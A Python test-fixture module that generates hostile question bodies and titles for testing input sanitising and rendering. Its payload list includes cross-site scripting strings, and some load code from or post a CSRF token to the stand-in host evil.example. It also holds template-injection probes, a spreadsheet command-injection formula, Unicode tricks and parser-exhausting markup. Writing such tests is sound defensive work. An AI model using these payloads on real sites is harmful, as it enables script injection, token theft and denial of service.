"""Bodies and titles that somebody means ill by: two hundred of each, always the same."""

import random
from collections.abc import Iterator

SCRIPT = "window.hacked=1"

_PAYLOADS = (
    "<script>{js}</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<script\x00>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}"//',
    "<img src='x'onerror='{js}'>",
    "<img/src=x/onerror={js}>",
    "<img src=`x`onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text x=20 y=20>click</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></foreignObject></svg>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:{js}'>x</maction></math>",
    "<math href='javascript:{js}'><mtext>x</mtext></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<svg></p><style><a id='</style><img src=1 onerror={js}>'>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<a href='javascript:{js}'>x</a>",
    "<a href=' java\tscript:{js}'>x</a>",
    "<a href='&#106;avascript:{js}'>x</a>",
    "<a href='JaVaScRiPt:{js}'>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<a href='vbscript:{js}'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='https://evil.example/' target=_self onclick={js}>x</a>",
    "<a href='https://[::1'>x</a>",
    "<a href='https://evil.example/\"onmouseover=\"{js}'>x</a>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{{background:url(https://evil.example/)}}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/)'>x</p>",
    "<div class='top' id='main' style='display:none'>x</div>",
    "<form action='https://evil.example/'><input name=csrf_token><button>x</button></form>",
    "<form id=review><input name=attributes></form>",
    "<button formaction='javascript:{js}'>x</button>",
    "<input onfocus={js} autofocus>",
    "<select onfocus={js} autofocus></select>",
    "<details open ontoggle={js}>x</details>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<body onload={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<template><img src=x onerror={js}></template>",
    "<!--><img src=x onerror={js}>-->",
    "<!--[if IE]><script>{js}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><script>{js}</script>",
    "<xmp><img src=x onerror={js}></xmp>",
    "<plaintext><img src=x onerror={js}>",
    "<textarea></textarea><img src=x onerror={js}></textarea>",
    "<title><img src=x onerror={js}></title>",
    "</main></body></html><script>{js}</script>",
    "{{{{7*7}}}} ${{7*7}} {{% import os %}} <%= 7*7 %> #{{7*7}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "$\\href{{javascript:{js}}}{{x}}$",
    "$\\text{{<script>{js}</script>}}$ $$\\text{{</math><img src=x onerror={js}>}}$$",
    "$\\style{{position:fixed;inset:0}}{{x}}$ $\\class{{top}}{{x}}$ $\\id{{main}}{{x}}$",
    "$\\color{{red\" onmouseover=\"{js}}}{{x}}$",
    "$\\hspace{{1em\" onload=\"{js}}}x$",
    "\\begin{{array}}{{c\" onclick=\"{js}}}x\\end{{array}}",
    "$\\unicode{{x3c}}\\unicode{{60}}script\\unicode{{62}}$",
    "$$<img src=x onerror={js}>$$",
    "\u202e gnihtyreve snrut \u2066\u2067 hidden",
    "a\u200bb\u200c\u200d\ufeff\u00ad" * 50,
    "\ud800 alone \udfff",
    "\x00\x01\x08\x1b[31mred\x1b[0m\x7f\x9b",
    "Z" + "\u0301\u0302\u0303\u0336" * 200,
    "\U000e0001\U000e0041\ufff9x\ufffa",
    "\ufdfd" * 40,
    "W" * 5000,
    "\u00a0" * 5000,
    "<td><tr></table></td>" * 20,
    "<b><i><u><a href=https://x.example><p>" * 30,
    "</div></div></div></section></article>" * 30,
    "<p" + " a=b" * 2000 + ">",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#x3c;script&#x3e;{js}&#x3c;/script&#x3e;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "'\"><img src=x onerror={js}>",
    "\"-{js}-\"",
    "</script><script>{js}</script>",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "javascript:{js}",
    "=cmd|'/c calc'!A1",
)  # fmt: skip
_HUGE = (
    "<ul><li>" * 50_000,
    "<div>" * 100_000,
    "<b><p>" * 50_000,
    "<blockquote>" * 100_000 + "x",
    '<ul a="<"><li>' * 30_000,
    "<" * 100_000,
    "&" * 100_000,
    "<a href=x>" * 50_000,
    "<table><tr><td>" * 30_000,
    "$" * 100_000,
    "\\(" * 50_000,
    "\\begin{x}" * 20_000,
    "$x^2$ " * 20_000,
    "${" + "{" * 1900 + "$ " * 50,
    "$" + "\\frac{1}{" * 200 + "}" * 200 + "$",
    "<!--" * 30_000,
    "<p x='" * 30_000,
    "<h1>x</h1>" * 9_000,
    "<img src=https://x.example/a.png>" * 3_000,
    "<svg>" * 30_000,
)


def hostile_bodies() -> list[str]:
    """Two hundred question bodies."""
    mixed = [*_plain(), *_HUGE]
    return [*mixed, *_mixtures(200 - len(mixed), seed=1)]


def hostile_titles() -> list[str]:
    """Two hundred titles; the last ones are very long."""
    plain = list(_plain())
    return [*plain, *_mixtures(190 - len(plain), seed=2), *(text[:20_000] for text in _HUGE[:10])]


def _plain() -> Iterator[str]:
    for payload in _PAYLOADS:
        yield payload.format(js=SCRIPT) if "{js}" in payload or "{{" in payload else payload


def _mixtures(number: int, seed: int) -> Iterator[str]:
    """Several of them in each other, cut anywhere, in broken markup."""
    chance = random.Random(seed)
    pieces = list(_plain())
    for _ in range(number):
        parts = [piece[: chance.randrange(1, 400)] for piece in chance.choices(pieces, k=4)]
        glue = chance.choice(("", "<p>", "</p>", '"', "'", "<", ">", "$", "\n", "<pre>", "<td>"))
        yield f"<p>{glue.join(parts)}</p>"
